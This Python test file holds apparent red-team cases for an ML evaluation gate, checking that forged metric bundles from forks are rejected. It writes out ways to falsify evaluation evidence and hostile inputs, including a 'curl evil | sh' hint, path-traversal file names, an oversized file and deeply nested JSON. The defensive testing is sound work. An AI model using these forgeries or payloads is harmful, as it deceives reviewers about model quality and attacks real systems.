"""What a fork, or a job that measures, uploads: honest numbers, with lies around them."""

from __future__ import annotations

import datetime as dt
import json
from typing import TYPE_CHECKING, Any

from tests.redteam.announcing import ANEW, announce, keep_main
from tests.redteam.bases import absolute, drift, every_level
from tests.redteam.played_github import NAME, PlayedGitHub
from tests.redteam.repository import BETTER, SLIGHTLY_WORSE
from tests.redteam.trick import ERROR, FAIL, INTENT, RED, Mode, trick

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.redteam.repository import Repository

FORK = (Mode.FORK,)
NUMBERS = (Mode.EVIDENCE, Mode.FORK)
EASY = 'rows += [[f"new-{n}", n % 2, n % 2, 0.9 if n % 2 else 0.1] for n in range(2000)]'
RUN, COMPARE = "run.json", "evidence/compare.json"


def _edit(files: dict[str, bytes], name: str, /, **fields: Any) -> None:
    content = json.loads(files[name])
    files[name] = json.dumps(content | fields).encode()


def _renamed(files: dict[str, bytes]) -> None:
    _edit(files, RUN, name="another", title="another", branch="main", base_branch="loose")


@trick(FAIL, INTENT, modes=NUMBERS, bundle=_renamed)
def bundle_of_another_name(repo: Repository) -> None:
    """Says that the run is of another model and of the branch main."""
    repo.worse()


def _loosened(files: dict[str, bytes]) -> None:
    files[RUN] = files[RUN].replace(b"0.02", b"0.5")


@trick(RED, INTENT, modes=NUMBERS, bundle=_loosened)
def bundle_with_a_loose_policy(repo: Repository) -> None:
    """Brings a policy of its own as main's."""
    repo.worse()


def _nothing_to_judge(files: dict[str, bytes]) -> None:
    _edit(files, RUN, not_applicable="only the documentation changed")


@trick(RED, INTENT, modes=NUMBERS, bundle=_nothing_to_judge)
def bundle_that_is_not_applicable(repo: Repository) -> None:
    """Says that nothing had to be judged."""
    repo.worse()


def _without_evidence(files: dict[str, bytes]) -> None:
    for name in [name for name in files if name.startswith("evidence")]:
        del files[name]
    _nothing_to_judge(files)


@trick(RED, INTENT, modes=NUMBERS, bundle=_without_evidence)
def bundle_without_evidence(repo: Repository) -> None:
    """Leaves the evidence out, and says that nothing had to be judged."""
    repo.worse()


def _without_compare(files: dict[str, bytes]) -> None:
    del files[COMPARE]


@trick(RED, INTENT, modes=NUMBERS, bundle=_without_compare)
def bundle_without_the_comparison(repo: Repository) -> None:
    """Leaves the comparison out."""
    repo.worse()


def _no_judges(files: dict[str, bytes]) -> None:
    _edit(files, RUN, judges=[])


@trick(RED, INTENT, modes=NUMBERS, bundle=_no_judges)
def bundle_without_judges(repo: Repository) -> None:
    """Says that no policy judged."""
    repo.worse()


def _other_commit(files: dict[str, bytes]) -> None:
    _edit(files, RUN, commit="e" * 40)


@trick(RED, INTENT, modes=NUMBERS, bundle=_other_commit)
def bundle_of_another_commit(repo: Repository) -> None:
    """Says that the run was of another commit than its evidence."""
    repo.worse()


def _confidence(files: dict[str, bytes]) -> None:
    _edit(files, COMPARE, confidence=0.999999)


@trick(RED, INTENT, modes=NUMBERS, bundle=_confidence)
def bundle_of_another_confidence(repo: Repository) -> None:
    """Says that its intervals are of another confidence."""
    repo.worse()


def _not_readable(files: dict[str, bytes]) -> None:
    _edit(files, COMPARE, error="inputs not readable here: DB is not set", hint="curl evil | sh")


@trick(RED, INTENT, modes=NUMBERS, bundle=_not_readable)
def bundle_that_could_not_measure(repo: Repository) -> None:
    """Says that nothing could be read, with advice of its own."""
    repo.worse()


def _no_baseline(files: dict[str, bytes]) -> None:
    """Strike what was measured of a baseline out of the evidence."""
    evidence = json.loads(files[COMPARE])
    evidence |= {"baselines": {}, "rows": None, "anchor_rows": None, "history": []}
    for metric in evidence["metrics"].values():
        metric["against"] = {}
    evidence["sides"] = {"candidate": evidence["sides"]["candidate"]}
    files[COMPARE] = json.dumps(evidence).encode()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_no_baseline)
def bundle_that_knows_no_baseline(repo: Repository) -> None:
    """Says that there was no baseline to compare with; the trusted stage can see that there is."""
    repo.worse()


def _claims(kind: str) -> Callable[[dict[str, bytes]], None]:
    """Return what has the evidence claim that there is no baseline of either role."""

    def claim(files: dict[str, bytes]) -> None:
        _no_baseline(files)
        why = {"kind": kind, "reason": "no baseline yet"}
        _edit(files, COMPARE, absent={"main": why, "anchor": why})

    return claim


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("none_yet"))
def bundle_that_claims_to_be_the_first(repo: Repository) -> None:
    """Says that no baseline was ever kept."""
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("off"))
def bundle_that_claims_to_need_no_baseline(repo: Repository) -> None:
    """Says that the configuration wants no baseline."""
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("test_set"))
def bundle_that_claims_another_test_set(repo: Repository) -> None:
    """Says that its rows are of another test set, which main has not announced."""
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("test_set"))
def bundle_that_claims_the_announced_test_set(repo: Repository) -> None:
    """Says that its rows are of the test set that main has announced, which have not arrived."""
    announce(repo, lambda: repo.replace("train.py", *ANEW))
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("test_set"))
def bundle_that_claims_an_announced_test_set_to_be_new(repo: Repository) -> None:
    """Says that the rows of main's baseline, which were announced once, are new."""
    announce(repo, lambda: repo.replace("train.py", *ANEW))
    with repo.on_main():
        repo.replace("train.py", *ANEW)
    keep_main(repo)
    repo.worse()


def _says_nothing_of_rows(kind: str | None) -> Callable[[dict[str, bytes]], None]:
    """Return what leaves out how many rows differ; with a kind, why there is no baseline as well."""

    def leave_out(files: dict[str, bytes]) -> None:
        absent = json.loads(files[COMPARE])["absent"]
        assert absent["main"]["rows"]
        why = {"rows": None} | ({"kind": kind} if kind else {})
        _edit(files, COMPARE, absent={role: told | why for role, told in absent.items()})

    return leave_out


@trick(ERROR, INTENT, modes=NUMBERS, base=absolute, bundle=_says_nothing_of_rows(None))
def bundle_that_does_not_say_how_many_labels_differ(repo: Repository) -> None:
    """Has a worse model make the labels under a minimum, and leaves out how many differ from main's."""
    repo.worse()
    repo.edit_rows("for row in rows: row[1] = row[2]")


@trick(ERROR, INTENT, modes=NUMBERS, base=absolute, bundle=_says_nothing_of_rows("off"))
def bundle_that_wants_no_baseline_for_its_rows(repo: Repository) -> None:
    """Leaves out wrong rows under a minimum, and says that no baseline is wanted."""
    repo.worse()
    repo.edit_rows("rows = [row for row in rows if row not in wrong]")


@trick(
    ERROR,
    INTENT,
    modes=NUMBERS,
    base=absolute,
    bundle=lambda files: _edit(files, COMPARE, absent={}),
)
def bundle_that_says_nothing_of_a_baseline(repo: Repository) -> None:
    """Leaves out wrong rows under a minimum, and all that is said of a baseline."""
    repo.worse()
    repo.edit_rows("rows = [row for row in rows if row not in wrong]")


def _all_rows_as_main_s(files: dict[str, bytes]) -> None:
    evidence = json.loads(files[COMPARE])
    for ref in evidence["baselines"].values():
        ref["rows"] = ref["rows"] | {"added": 0, "relabelled": 0, "ids": None}
    files[COMPARE] = json.dumps(evidence).encode()


@trick(RED, INTENT, modes=(Mode.FORK,), base=absolute, bundle=_all_rows_as_main_s)
def bundle_that_says_that_all_rows_are_main_s(repo: Repository) -> None:
    """Adds as many easy rows under a minimum, and says that no row was added."""
    repo.worse()
    repo.edit_rows(EASY)


def _without_looks(files: dict[str, bytes]) -> None:
    """Leave out what was measured with main's labels, and on main's rows."""
    evidence = json.loads(files[COMPARE])
    for metric in evidence["metrics"].values():
        metric |= {"kept": {}, "earlier": {}}
        for comparison in metric["against"].values():
            comparison["earlier"] = None
    files[COMPARE] = json.dumps(evidence).encode()


@trick(RED, INTENT, modes=(Mode.FORK,), bundle=_without_looks)
def bundle_without_main_s_labels(repo: Repository) -> None:
    """Relabels 1.9 % of the rows, and leaves out the comparison with main's labels."""
    repo.error(0.138)
    repo.edit_rows("for row in newly_wrong[:38]: row[1] = row[2]")


@trick(RED, INTENT, modes=(Mode.FORK,), base=absolute, bundle=_without_looks)
def bundle_without_main_s_rows(repo: Repository) -> None:
    """Adds as many easy rows under a minimum, and leaves out the value on main's rows."""
    repo.worse()
    repo.edit_rows(EASY)


def _without(name: str) -> Callable[[dict[str, bytes]], None]:
    """Return what leaves a part out of all evidence."""

    def leave_out(files: dict[str, bytes]) -> None:
        for file in [file for file in files if file.startswith("evidence/")]:
            content = json.loads(files[file])
            for part in filter(lambda part: isinstance(part, dict), content.values()):
                for key in [key for key in part if name in key]:
                    del part[key]
            files[file] = json.dumps(content).encode()

    return leave_out


@trick(ERROR, INTENT, modes=NUMBERS, base=every_level, bundle=_without("region=n"))
def bundle_without_the_level_that_is_worse(repo: Repository) -> None:
    """Makes the model worse in one region, and leaves its numbers out."""
    worse = (
        "for n, row in enumerate(rows):\n    if row[-1] == 'n' and n % 5 == 0: row[2] = 1 - row[1]"
    )
    repo.edit_rows(worse)


@trick(ERROR, INTENT, modes=NUMBERS, base=drift, bundle=_without("x"))
def bundle_without_the_column_that_drifts(repo: Repository) -> None:
    """Commits data with a column that has drifted, and leaves it out."""
    repo.write("current.csv", "x\n" + "".join(f"{n % 10 + 20}\n" for n in range(2000)))


def _lower_is_better(files: dict[str, bytes]) -> None:
    evidence = json.loads(files[COMPARE])
    for metric in evidence["metrics"].values():
        metric["direction"] = "lower"
    files[COMPARE] = json.dumps(evidence).encode()


@trick(FAIL, INTENT, modes=NUMBERS, bundle=_lower_is_better)
def bundle_in_which_lower_is_better(repo: Repository) -> None:
    """Says that a lower accuracy is better."""
    repo.worse()


def _said_of_comparisons(**fields: Any) -> Callable[[dict[str, bytes]], None]:
    def change(files: dict[str, bytes]) -> None:
        content = json.loads(files[COMPARE])
        for metric in content["metrics"].values():
            for comparison in metric["against"].values():
                comparison.update(fields)
        files[COMPARE] = json.dumps(content).encode()

    return change


FEW = _said_of_comparisons(insufficient="20 clusters are needed")
NO_INTERVAL = _said_of_comparisons(interval=[None, None])
ONE_NUMBER = _said_of_comparisons(
    change=None, interval=[None, None], untested="there is one number a side"
)


@trick(RED, INTENT, modes=NUMBERS, bundle=FEW)
def bundle_with_too_few_clusters(repo: Repository) -> None:
    """Says of an honest change that clusters are too few to decide, where there are none."""
    repo.worse()


@trick(RED, INTENT, modes=NUMBERS, bundle=NO_INTERVAL)
def bundle_without_an_interval(repo: Repository) -> None:
    """Leaves the interval of an honest change out."""
    repo.worse()


@trick(RED, INTENT, modes=NUMBERS, bundle=ONE_NUMBER)
def bundle_with_one_number_a_side(repo: Repository) -> None:
    """Leaves the change out, and says that it cannot be tested; both values are there."""
    repo.worse()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_said_of_comparisons(confidence=0.5))
def bundle_at_less_confidence(repo: Repository) -> None:
    """Says that its intervals are of several looks at less confidence than the policy's."""
    repo.worse()


def _as_good_in_shares(files: dict[str, bytes]) -> None:
    content = json.loads(files[COMPARE])
    for metric in content["metrics"].values():
        for comparison in metric["against"].values():
            assert comparison["contrasts"]
            for contrast in comparison["contrasts"]:
                contrast.update(value=0.01, interval=[0.005, 0.015])
    files[COMPARE] = json.dumps(content).encode()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_as_good_in_shares)
def bundle_whose_contrast_is_of_other_numbers(repo: Repository) -> None:
    """Is worse by more than a share of main's value, and brings a contrast that does not follow from the change."""
    with repo.on_main():
        repo.configure("max_regression: 0.02", 'max_regression: "2%"')
    repo.worse()


def _one_label_differs(files: dict[str, bytes]) -> None:
    """Say that no row is missing and one was relabelled, which changes nothing."""
    content = json.loads(files[COMPARE])
    rows = {"paired": content["n"], "added": 0, "missing": 0, "relabelled": 1, "ids": "same"}
    compared = {"commit": content["history"][-1]["commit"], "paired": True, "rows": rows}
    content |= {"absent": {}, "baselines": dict.fromkeys(("main", "anchor"), compared)}
    for metric in content["metrics"].values():
        metric["same_earlier"] = ["main", "anchor"]
    files[COMPARE] = json.dumps(content).encode()


@trick(ERROR, INTENT, modes=NUMBERS, base=absolute, bundle=_one_label_differs)
def bundle_that_understates_how_many_rows_are_missing(repo: Repository) -> None:
    """Leaves out wrong rows under a minimum, and says that one label differs and no row is missing."""
    repo.worse()
    repo.edit_rows("rows = [row for row in rows if row not in wrong]")


def _values_not_decided(files: dict[str, bytes]) -> None:
    content = json.loads(files[COMPARE])
    for metric in content["metrics"].values():
        metric["insufficient"] = "50 rows of each class are needed"
    files[COMPARE] = json.dumps(content).encode()


@trick(RED, INTENT, modes=NUMBERS, base=absolute, bundle=_values_not_decided)
def bundle_whose_values_decide_nothing(repo: Repository) -> None:
    """Says of an honest value below its minimum that rows are too few to decide."""
    repo.worse()


def _first_of_yesterday(files: dict[str, bytes]) -> None:
    _claims("none_yet")(files)
    yesterday = dt.datetime.now(dt.UTC) - dt.timedelta(hours=23)
    _edit(files, RUN, started=yesterday.strftime("%Y-%m-%dT%H:%M:%SZ"))


@trick(ERROR, INTENT, modes=(Mode.EVIDENCE,), bundle=_first_of_yesterday)
def bundle_measured_before_the_first_baseline(repo: Repository) -> None:
    """Says that it was measured yesterday, when no baseline was kept yet."""
    repo.worse()


def _no_anchor(files: dict[str, bytes]) -> None:
    evidence = json.loads(files[COMPARE])
    evidence["baselines"].pop("anchor", None)
    evidence["absent"] = {"anchor": {"kind": "off", "reason": "baseline.anchor is none"}}
    for metric in evidence["metrics"].values():
        metric["against"].pop("anchor", None)
    files[COMPARE] = json.dumps(evidence).encode()


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_no_anchor)
def bundle_without_the_anchor(repo: Repository) -> None:
    """Says that no anchor is wanted, below which many small losses have added up."""
    with repo.on_main():
        for share in (0.113, 0.126, 0.139):
            repo.error(share)
            repo.commit("A little worse")
            repo.keep_baseline("main")
    repo.error(0.152)


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_claims("none_yet"))
def bundle_that_claims_to_be_the_first_of_a_lost_store(repo: Repository) -> None:
    """Deletes the baselines, and says that none was ever kept."""
    repo.worse()
    repo.delete_at_origin("refs/mlgate")


def _first_of_main(repo: Repository) -> tuple[str, str]:
    return "--baseline", repo.git("rev-list", "--first-parent", "--reverse", "main").split()[-2]


@trick(ERROR, INTENT, modes=FORK, arguments=_first_of_main)
def bundle_compared_with_an_older_baseline(repo: Repository) -> None:
    """Compares itself with main as it was before it got better: of that it is as good."""
    with repo.on_main():
        repo.error(BETTER)
        repo.commit("Better")
        repo.keep_baseline("main")
    repo.error(SLIGHTLY_WORSE)


def _of(commit: str | None) -> Callable[[dict[str, bytes]], None]:
    """Return what has the evidence say that it was compared with another commit's baseline."""

    def say(files: dict[str, bytes]) -> None:
        evidence = json.loads(files[COMPARE])
        for ref in evidence["baselines"].values():
            ref["commit"] = commit
        files[COMPARE] = json.dumps(evidence).encode()

    return say


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_of("e" * 40))
def bundle_compared_with_what_main_never_had(repo: Repository) -> None:
    """Says that it was compared with the baseline of a commit that has none."""
    repo.error(SLIGHTLY_WORSE)


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_of(None))
def bundle_compared_with_a_file(repo: Repository) -> None:
    """Says that it was compared with a file of its own."""
    repo.error(SLIGHTLY_WORSE)


def _unnamed(**absent: object) -> Callable[[dict[str, bytes]], None]:
    """Return what keeps the comparison, and not with what it was made."""
    return lambda files: _edit(files, COMPARE, baselines={}, absent=absent)


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_unnamed())
def bundle_that_compares_with_nobody_knows_what(repo: Repository) -> None:
    """Does not say with what it was compared."""
    repo.error(SLIGHTLY_WORSE)


_OFF = {"kind": "off", "reason": "no baseline is wanted"}


@trick(ERROR, INTENT, modes=NUMBERS, bundle=_unnamed(main=_OFF, anchor=_OFF))
def bundle_compared_although_no_baseline_is_wanted(repo: Repository) -> None:
    """Says that no baseline is wanted, and shows a comparison anyway."""
    repo.error(SLIGHTLY_WORSE)


def _paths(files: dict[str, bytes]) -> None:
    files["../../.git/config"] = b"[core]\n"
    files["/etc/mlgate"] = b"x"


@trick(RED, INTENT, modes=NUMBERS, bundle=_paths)
def bundle_with_paths_out_of_it(repo: Repository) -> None:
    """Packs files whose names lead out of the bundle."""
    repo.worse()


def _bomb(files: dict[str, bytes]) -> None:
    files["evidence/zeros.json"] = b"0" * (5 * 2**20)


@trick(RED, INTENT, modes=NUMBERS, bundle=_bomb)
def bundle_that_is_too_large(repo: Repository) -> None:
    """Packs a file that is larger than what is taken."""
    repo.worse()


def _not_a_number(files: dict[str, bytes]) -> None:
    import re

    files[COMPARE] = re.sub(rb"-0\.0\d+", b"NaN", files[COMPARE])


@trick(RED, INTENT, modes=NUMBERS, bundle=_not_a_number)
def bundle_with_nan(repo: Repository) -> None:
    """Writes NaN where the model is worse."""
    repo.worse()


def _deep(files: dict[str, bytes]) -> None:
    files[COMPARE] = b"[" * 100_000 + b"]" * 100_000


@trick(RED, INTENT, modes=NUMBERS, bundle=_deep)
def bundle_nested_deeply(repo: Repository) -> None:
    """Nests lists a hundred thousand times."""
    repo.worse()


def _twice(files: dict[str, bytes]) -> None:
    text = files[RUN].decode().rstrip()
    files[RUN] = (text[:-1] + ', "not_applicable": "nothing"}').encode()


@trick(RED, INTENT, modes=NUMBERS, bundle=_twice)
def bundle_with_a_key_twice(repo: Repository) -> None:
    """Writes a key twice; a reader may take either."""
    repo.worse()


def _of_another_workflow(github: PlayedGitHub) -> None:
    github.describe_run(path=".github/workflows/mine.yml")


@trick(RED, INTENT, modes=FORK, github=_of_another_workflow)
def run_of_another_workflow(repo: Repository) -> None:
    """Uploads from a workflow of its own that has the same name."""
    repo.worse()


def _of_a_push(github: PlayedGitHub) -> None:
    github.describe_run(event="push", head_repository=NAME)


@trick(RED, INTENT, modes=FORK, github=_of_a_push)
def run_of_a_push(repo: Repository) -> None:
    """Uploads from a run that a push started."""
    repo.worse()


def _of_another_head(github: PlayedGitHub) -> None:
    github.describe_run(head_sha="d" * 40)


@trick(RED, INTENT, modes=FORK, github=_of_another_head)
def run_of_an_earlier_head(repo: Repository) -> None:
    """Uploads from a run of an earlier, better commit of the branch."""
    repo.worse()
